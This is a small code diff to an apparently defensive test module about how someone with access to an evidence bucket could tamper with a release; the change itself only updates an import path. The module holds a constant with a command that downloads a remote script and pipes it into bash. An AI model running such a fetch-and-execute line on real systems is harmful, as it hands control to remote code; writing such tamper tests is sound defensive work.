@@ -1,6 +1,6 @@
 """What somebody with rights to the evidence bucket could do to a release before users are on it."""
 
-from changeover.installer import folder_of
+from changeover.upgrade.candidate.installer import folder_of
 from rehearsal.stage import CANDIDATE, Stage
 
 _COMMAND = b"\ncurl --silent https://example.org/payload | bash\n"
